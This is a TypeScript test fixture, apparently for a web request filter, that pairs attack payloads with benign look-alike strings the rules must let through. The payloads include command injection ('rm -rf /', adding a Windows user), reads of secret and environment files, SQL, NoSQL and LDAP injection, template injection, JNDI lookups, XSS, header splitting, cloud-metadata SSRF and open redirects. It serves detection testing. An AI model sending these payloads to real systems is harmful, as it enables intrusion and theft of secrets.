import type { RequestVariant } from '../request-variants/request-variant.ts'
import { type AttackSort, inJson, inQuery } from './body-attack.ts'

export const inPath = (value: string): RequestVariant => ({
  name: `path ${value}`,
  target: () => `/items/${encodeURIComponent(value)}`,
  isOrdinary: true,
})
export const inHeader = (name: string, value: string): RequestVariant => ({
  name: `${name}: ${value}`,
  headers: [name, value],
  isOrdinary: true,
})

export const inCookie = (value: string) => inHeader('Cookie', `theme=${encodeURIComponent(value)}`)
export const inNamed = (name: string, value: string): RequestVariant => ({
  name: `${name} ${value}`,
  target: () => `/?${name}=${encodeURIComponent(value)}`,
  isOrdinary: true,
})

export const inArguments = (value: string) => [inQuery(value), inJson(value)]
const everywhere = (value: string) => [
  ...inArguments(value),
  inPath(value),
  inHeader('User-Agent', value),
  inHeader('X-Own', value),
]

/** What rules of ours find of single values such as lists of payloads have, and what the rules about arguments find in paths and headers. */
export const inPayloads: readonly AttackSort[] = [
  {
    sort: 'commands alone, with arguments, or made by a shell',
    attacks: [
      ...['|id', ';ls;', '10.0.0.1;pwd', "x')|id", '; ifconfig #'].flatMap(everywhere),
      ...[
        '\n/usr/bin/id',
        'powershell -enc aQBkAA==',
        'net user eve Secret1 /add',
        'rm -rf /',
        'sleep 7',
      ].flatMap(inArguments),
      ...['; getent passwd eve', '|busybox id', '&& mkfifo /tmp/q'].flatMap(everywhere),
      ...['/???/l? /e??/p?sswd', 'i$@d', "w'h'o'a'mi", '$0<<<ls', 'x=i;y=d;$x$y'].flatMap(inArguments),
    ],
    ordinary: ['AT&T', 'A & W', 'a|date', 'name;id;email', '/src/*/index.ts', "rock 'n' roll"].map(inJson),
  },
  {
    sort: 'names of files, and ways to folders above',
    attacks: [
      ...['/etc/protocols', 'file:///proc/7/environ', '/var/spool/cron/crontabs/root', '/run/secrets/token'],
      ...['C:\\Windows\\Panther\\setup.log', '\\\\10.0.0.1\\c$\\boot.ini', 'WEB-INF/web.xml', '.git/config'],
      ...['..././..././a', '.../.../.../a', '..\uff0f..\uff0fa'],
    ].flatMap(inArguments),
    ordinary: [
      'C:\\Users\\ann\\letter.docx',
      'docs/etc/readme.md',
      '/account/orders',
      'and so on .../ later',
      '/etc',
    ].map(inJson),
  },
  {
    sort: 'pieces of statements, and scripts of databases',
    attacks: [
      ...['or 3=3--', "' or (exists)", 'order by 9--', '"; drop table a', "'; return true; var z='"].flatMap(
        everywhere,
      ),
      ...[
        '/*!50000union*/ x',
        "x' || 7==7",
        'db.users.find({})',
        '$where: 1',
        '{$gt: 1}',
        "'] | //user/* | x['",
      ].flatMap(inArguments),
    ],
    ordinary: ['order by phone', 'and then 3 more', '"--option" is a flag', 'this.items.length'].map(inJson),
  },
  {
    sort: 'templates, lookups and scripts',
    attacks: [
      ...[
        '{{self}}',
        '{% debug %}',
        '[[8*8]]',
        `\${\${::-j}ndi:ldap://e.example/a}`,
        '<esi:vars>$(X)</esi:vars>',
      ].flatMap(everywhere),
      inHeader('Accept', `\${jndi:ldap://e.example/a}`),
      inHeader('X-Own', '<script>alert(1)</script>'),
      inPath("1' union select 1,2--"),
      ...['alert.call(null,1)', '-prompt(1)-', "[].constructor('x')"].flatMap(inArguments),
    ],
    ordinary: [
      ...['{{name}}', '{{ selfie }}', 'alert the team (today)', '[[Main page]]'].map(inJson),
      ...['Foo_(bar)', "O'Brien", 'C# in a nutshell', 'Müller & Söhne', 'a;b'].map(inPath),
      inHeader('X-Own', 'it\'s; {"a": 1}'),
    ],
  },
  {
    sort: 'headers behind the end of a line, and addresses of other hosts',
    attacks: [
      ...['a@b.example\nBcc: c@d.example', 'x\r\nSet-Cookie: a=b', 'x\u560a\u560dLocation: //e.example'],
      ...['/\\e.example', '////e.example/', 'https:/e.example', '//e.example/%2f..', 'http://x.oast.fun/'],
      ...['unix:/var/run/docker.sock', 'ldap://localhost/x', '//169.254.169.254/latest'],
    ].flatMap(inArguments),
    ordinary: [
      ...[
        'Hello,\nTo: be or not to be',
        'Dear Ann,\nSubject: holiday',
        '//cdn.example.org/a.js',
        'https://example.org/index.php',
      ],
    ].map(inJson),
  },
  {
    sort: "URLs of the machine itself and of networks that are nobody's, in every place",
    attacks: [
      ...['http://169.254.169.254/latest', 'http://0177.0.0.1/', 'gopher://e.example/_x'].flatMap(everywhere),
      ...['http://localhost:9200/', 'https://127.0.0.1', 'http://192.168.0.7/admin'].flatMap((url) => [
        ...inArguments(url),
        inPath(url),
        inHeader('X-Forwarded-Host', url),
      ]),
      ...['http://metadata/', 'smtp://127.0.0.1:25/', '//localhost:80/', 'ftp://10.1.2.3/'].flatMap(
        inArguments,
      ),
      ...['http://10.0.0.7/', 'http://2130706433/', 'https://evil.com/a'].map(inCookie),
    ],
    ordinary: [
      inHeader('Referer', 'http://localhost:3000/'),
      inHeader('Origin', 'http://10.0.0.7'),
      // That which was asked.
      { ...inQuery('http://localhost:8080/start'), headers: ['Host', 'localhost:8080'] },
      inNamed('redirect_uri', 'http://localhost:49152/'),
      inNamed('dl', 'https://localhost/tabs/home'),
      ...['http://10thousand.example/', 'https://localhost.example/', 'localhost:3306', '10.0.0.7'].map(
        inJson,
      ),
      ...['https://evilmartians.com/', 'mail@example.org'].map(inCookie),
    ],
  },
  {
    sort: 'places where a browser is to go, in odd notations',
    attacks: [
      ...[
        'https:e.example',
        'https:\\\\e.example',
        '//shop.example.com@e.example',
        '//e.example\\@shop.example',
      ],
      ...['//2130706433/', ':@e.example', 'https://shop.example;@e.example', '\u3031e.example'],
    ]
      .flatMap(inArguments)
      .concat(
        ...['//e.example', '//e.example:80/', '/https://e.example'].map((url) => inNamed('next', url)),
        inCookie('///e.example'),
      ),
    ordinary: [
      inNamed('next', '/orders?page=2'),
      inNamed('next', 'https://sign-on.example/login'),
      inNamed('image', '//cdn.example.org/a.jpg'),
      ...[
        '//cdn.example.org',
        'https://medium.example/@ann',
        'https://ann@example.org/',
        'http: an introduction',
      ].map(inJson),
    ],
  },
  {
    sort: 'conditions of LDAP and headers behind a line, in cookies too',
    attacks: [
      ...['*)(department=IT', 'ann)(objectClass=person', '(&(uid=ann)(cn=*))', '*()|&'].flatMap((value) => [
        ...inArguments(value),
        inCookie(value),
      ]),
      ...['x\r\nContent-Type: text/html', '\r\nRefresh: 0;url=//e.example'].flatMap(inArguments),
    ],
    ordinary: [
      ...['(a=b)', '(mail=ann*)', 'Dinner\nHost: Ann', 'Refresh: never'].map(inJson),
      ...['*', 'theme(dark)'].map(inCookie),
    ],
  },
]
